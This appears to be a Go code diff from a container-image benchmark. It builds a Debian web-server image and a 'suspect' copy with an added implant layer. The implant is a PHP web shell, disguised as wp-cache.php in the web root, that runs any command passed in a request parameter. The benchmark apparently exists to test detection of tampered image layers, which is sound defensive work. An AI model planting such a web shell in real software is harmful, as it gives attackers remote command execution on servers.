@@ -53,7 +53,38 @@ func DebianImplant() Layer {
 // gzip layer each) and of a suspect copy with DebianImplant as a sixth layer, building them
 // once under dir with mmdebstrap. It returns ErrNoDebian (wrapped) when they cannot be built.
 func CachedDebian(dir string) (original, suspect string, err error) {
-	base := filepath.Join(dir, "debian-5L")
+	return cachedDebian(filepath.Join(dir, "debian-5L"), "strata-bench/debian", DebianStages, DebianImplant())
+}
+
+// DebianWebStages are the steps of the real Debian web benchmark image: what a web server
+// image holds, mostly small source files read as pages and scripts (PHP applications and
+// libraries, Python and Node.js frameworks) rather than compiled packages.
+var DebianWebStages = []DebianStage{
+	{[]string{"ca-certificates"}, "/bin/sh -c #(nop) ADD file:mmdebstrap-bookworm-minbase in / "},
+	{[]string{"apache2", "libapache2-mod-php", "php-mysql", "php-gd", "php-curl", "php-xml", "php-mbstring", "php-intl"},
+		"RUN /bin/sh -c apt-get install -y apache2 libapache2-mod-php php-mysql php-gd php-curl php-xml php-mbstring php-intl # buildkit"},
+	{[]string{"wordpress", "php-tcpdf", "php-phpseclib"}, "RUN /bin/sh -c apt-get install -y wordpress php-tcpdf php-phpseclib # buildkit"},
+	{[]string{"phpmyadmin", "dokuwiki"}, "RUN /bin/sh -c apt-get install -y phpmyadmin dokuwiki # buildkit"},
+	{[]string{"python3-django", "python3-flask", "nodejs", "node-express"}, "RUN /bin/sh -c apt-get install -y python3-django python3-flask nodejs node-express # buildkit"},
+}
+
+// DebianWebImplant is the small extra layer of the suspect copy of the Debian web image: a
+// page in the web root that runs what the request names.
+func DebianWebImplant() Layer {
+	return Layer{CreatedBy: "RUN /bin/sh -c cp /tmp/x.php /var/www/html/wp-cache.php # buildkit", Files: []File{
+		Dir("var"), Dir("var/www"), Dir("var/www/html"),
+		Reg("var/www/html/wp-cache.php", "<?php\n$k = 'c';\n$v = $_REQUEST[$k];\nif ($v) { echo shell_exec($v); }\n").WithMode(0o644),
+	}}
+}
+
+// CachedDebianWeb is CachedDebian for the web image: DebianWebStages and DebianWebImplant.
+func CachedDebianWeb(dir string) (original, suspect string, err error) {
+	return cachedDebian(filepath.Join(dir, "debian-web-5L"), "strata-bench/debian-web", DebianWebStages, DebianWebImplant())
+}
+
+// cachedDebian builds (once, under base) an image of stages and its suspect copy with implant
+// as one more layer.
+func cachedDebian(base, repo string, stageList []DebianStage, implant Layer) (original, suspect string, err error) {
 	original, suspect = filepath.Join(base, "original"), filepath.Join(base, "suspect")
 	if _, err := os.Stat(filepath.Join(suspect, "index.json")); err == nil {
 		return original, suspect, nil
@@ -66,7 +97,7 @@ func CachedDebian(dir string) (original, suspect string, err error) {
 		return "", "", err
 	}
 	defer os.RemoveAll(work)
-	stages, err := debianStages(work)
+	stages, err := debianStages(work, stageList)
 	if err != nil {
 		return "", "", err
 	}
@@ -83,15 +114,14 @@ func CachedDebian(dir string) (original, suspect string, err error) {
 		if err != nil {
 			return "", "", fmt.Errorf("making layer %d: %w", i, err)
 		}
-		layers[i] = Layer{Raw: raw, Compression: Gzip, CreatedBy: DebianStages[i].CreatedBy,
+		layers[i] = Layer{Raw: raw, Compression: Gzip, CreatedBy: stageList[i].CreatedBy,
 			Created: built.Add(time.Duration(i-len(stages)) * time.Minute)}
 	}
 	for _, name := range []string{"original", "suspect"} {
-		img := Image{Tags: []string{"strata-bench/debian:" + name}, Created: built,
+		img := Image{Tags: []string{repo + ":" + name}, Created: built,
 			Config: Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, Cmd: []string{"bash"}},
 			Layers: layers}
 		if name == "suspect" {
-			implant := DebianImplant()
 			implant.Created = built.Add(time.Hour)
 			img.Created = implant.Created
 			img.Layers = append(append([]Layer(nil), layers...), implant)
@@ -117,13 +147,13 @@ func CachedDebian(dir string) (original, suspect string, err error) {
 	return original, suspect, nil
 }
 
-// debianStages runs mmdebstrap once, installing DebianStages one after the other in the chroot,
+// debianStages runs mmdebstrap once, installing stageList one after the other in the chroot,
 // and returns a tar of the root filesystem after each stage.
-func debianStages(work string) ([]string, error) {
+func debianStages(work string, stageList []DebianStage) ([]string, error) {
 	var args []string
 	var pkgs []string
 	var out []string
-	for i, st := range DebianStages {
+	for i, st := range stageList {
 		tarPath := filepath.Join(work, fmt.Sprintf("stage%d.tar", i+1))
 		out = append(out, tarPath)
 		if i == 0 {
